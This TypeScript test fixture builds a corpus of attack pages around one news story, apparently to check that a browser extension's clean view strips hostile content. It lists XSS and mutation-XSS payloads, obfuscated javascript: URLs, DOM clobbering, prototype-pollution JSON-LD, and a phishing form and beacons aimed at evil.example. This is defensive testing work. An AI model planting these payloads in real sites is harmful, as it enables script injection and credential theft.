/**
 * The attack corpus: one whole news page (story.html: a short Chicago Tribune story with its TCA
 * credit line, under a host site's header and footer) and, per family of attacks, what is put into
 * it. Every page is served in the real-browser tests at `https://attack.example/<name>`.
 *
 * The story is the same on every page so that a test can tell "nothing ran" from "nothing was
 * shown": the story and its credit must come through, the payload must not.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

export interface AttackCase {
  name: string;
  /** What the case tries. */
  tries: string;
  /** Put into <head>. */
  head?: string;
  /** Put into the <body> start tag (with a leading space). */
  bodyAttributes?: string;
  /** Put between the site header and the article. */
  top?: string;
  /** Put between the story's second and third paragraphs. */
  middle?: string;
  /**
   * The unclosed payload makes the HTML parser itself nest the rest of the story inside
   * <math>/<svg> (any browser builds the same tree): the story's start must survive, the rest is
   * foreign content and goes with it (so do the last paragraph and the credit line).
   */
  parserSwallowsTheEnd?: true;
}

export const STORY_TITLE = 'Bridge repair to close Lake Street crossing';
export const STORY_START = 'CHICAGO — City officials said on Monday';
export const STORY_END = 'The alternative is a bridge that fails, and nobody wants that.”';
export const STORY_CREDIT = '©2025 Chicago Tribune. Visit at chicagotribune.com. Distributed by Tribune Content Agency, LLC.';
/** Where payloads send data or load from: no request to it may ever come from the extension. */
export const EVIL_HOST = 'evil.example';

export const ATTACK_CASES: AttackCase[] = [
  {
    name: 'scripts-and-handlers',
    tries: 'inline scripts and on* handlers on body, paragraphs, images and details',
    head: `<script>window.__pwned = "head"; alert("head")</script>`,
    bodyAttributes: ` onload="window.__pwned='body'; alert('body')"`,
    middle: `<p onclick="alert(1)" onmouseover="window.__pwned=1">Hover here.</p><img src="x" onerror="window.__pwned='img'; alert('img')" alt=""><script>window.__pwned = "inline"</script><details open ontoggle="alert('toggle')"><summary>More</summary></details>`,
  },
  {
    name: 'dangerous-urls',
    tries: 'javascript:, data: and vbscript: URLs in links and images, with mixed case and spaces',
    middle: `<p><a href="javascript:alert(1)">a javascript link</a>, <a href="  JaVaScRiPt:alert(2)">a spaced one</a>, <a href="java&#x09;script:alert(7)">a tabbed one</a>, <a href="data:text/html,&lt;script&gt;alert(3)&lt;/script&gt;">a data link</a>, <a href="vbscript:msgbox(4)">a vbscript link</a>.</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg data"><img src="javascript:alert(5)" alt="js img">`,
  },
  {
    name: 'svg-and-mathml',
    tries: 'SVG and MathML payloads: onload, script, xlink:href, foreignObject, namespace confusion',
    middle: `<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text x="0" y="15">click</text></a><foreignObject><iframe src="javascript:alert(4)"></iframe></foreignObject></svg><math><mtext><table><mglyph><style><img src=x onerror=alert(5)></style></mglyph></table></mtext><maction actiontype="statusline" xlink:href="javascript:alert(6)">m</maction></math>`,
  },
  {
    name: 'mxss-and-noscript',
    tries: 'mutation XSS: noscript and comment breakouts, template content, form/math nesting',
    parserSwallowsTheEnd: true,
    middle: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript><template><script>alert(2)</script></template><!--<img src="--><img src=x onerror=alert(3)//"><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(4) src>">`,
  },
  {
    name: 'base-and-refresh',
    // The refresh waits 30 s so the tab is still on the story when it is read; in an extension page it
    // would show as a <meta> element, which the checks look for.
    tries: 'a cross-site <base> that would redirect relative links, and a meta refresh',
    head: `<base href="https://${EVIL_HOST}/"><meta http-equiv="refresh" content="30;url=https://${EVIL_HOST}/">`,
    middle: `<p>See the <a href="/city/bridges">city’s bridge page</a> for the schedule.</p>`,
  },
  {
    name: 'css-hide-and-overlay',
    tries: 'text hidden by a style sheet or inline style, a full-screen overlay, a CSS beacon',
    head: `<style>body{background:url(https://${EVIL_HOST}/track.gif)} .hidden-text{display:none}</style>`,
    middle: `<p class="hidden-text">Hidden SEO spam text that a reader must not see in the clean view at all.</p><p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:white">Fake login overlay</p><div style="display:none">Invisible payload text</div>`,
  },
  {
    name: 'forms-and-frames',
    tries: 'a phishing form, iframes (src and srcdoc), object and embed',
    middle: `<form action="https://${EVIL_HOST}/phish" method="post"><label>Password <input type="password" name="pw"></label><button>Log in to keep reading</button></form><iframe src="https://${EVIL_HOST}/frame.html" width="300" height="200"></iframe><iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe><object data="https://${EVIL_HOST}/x.swf"></object><embed src="https://${EVIL_HOST}/x.swf">`,
  },
  {
    name: 'dom-clobbering',
    tries: 'named elements that shadow the document properties our code reads',
    top: `<img name="body" src="https://${EVIL_HOST}/1.gif"><img name="title"><form name="documentElement"></form><img name="cloneNode"><img name="querySelectorAll"><img name="defaultView"><form><input name="tagName"><input name="getAttribute"></form>`,
  },
  {
    name: 'markup-in-metadata',
    tries: 'HTML and script text inside the title, meta tags and byline, which are shown as text',
    head: `<meta name="author" content="&lt;img src=x onerror=alert('author')&gt;"><meta property="og:description" content="&lt;script&gt;alert('og')&lt;/script&gt;"><meta property="article:published_time" content="&lt;svg onload=alert(1)&gt;">`,
    top: `<p class="byline">By &lt;img src=x onerror=alert('byline')&gt;</p>`,
  },
  {
    name: 'hostile-json-ld',
    tries: 'JSON-LD of the wrong types, with __proto__ keys, and claiming another publisher',
    head: `<script type="application/ld+json">{"@type":"NewsArticle","__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"headline":{"toString":"alert(1)"},"author":[{"name":{"__proto__":{"x":1}}},42,null,{"name":["<img src=x onerror=alert(2)>"]}],"publisher":{"name":{"valueOf":1}},"datePublished":{"length":1e9}}</script><script type="application/ld+json">{"@graph":[{"@graph":[{"@graph":null}]}, "text", [[[[]]]]]}</script><script type="application/ld+json">{not json</script>`,
  },
  {
    name: 'beacons-and-prefetch',
    tries: 'requests a reader would make for the page: stylesheet, prefetch, preconnect, ping, srcset, video poster, tab-nabbing link',
    head: `<link rel="stylesheet" href="https://${EVIL_HOST}/x.css"><link rel="prefetch" href="https://${EVIL_HOST}/prefetch"><link rel="preconnect" href="https://${EVIL_HOST}"><link rel="dns-prefetch" href="//${EVIL_HOST}">`,
    middle: `<p>Read <a href="https://example.com/more" ping="https://${EVIL_HOST}/ping" target="_blank">the city’s notice</a>.</p><picture><source srcset="https://${EVIL_HOST}/a.webp 1x"></picture><video poster="https://${EVIL_HOST}/poster.jpg" src="https://${EVIL_HOST}/v.mp4" autoplay></video><audio src="https://${EVIL_HOST}/a.mp3" autoplay></audio>`,
  },
];

const STORY = readFileSync(join(import.meta.dirname, 'story.html'), 'utf8');

/** The whole page for a case: the story with the case's payloads in their places. */
export function attackPageHtml(c: AttackCase): string {
  const parts: Record<string, string> = { head: c.head ?? '', bodyAttributes: c.bodyAttributes ?? '', top: c.top ?? '', middle: c.middle ?? '' };
  return STORY.replace(/\{\{(\w+)\}\}/g, (_, key: string) => {
    if (!(key in parts)) throw new Error(`story.html has an unknown slot {{${key}}}`);
    return parts[key]!;
  });
}

export const attackUrl = (c: AttackCase): string => `https://attack.example/${c.name}`;
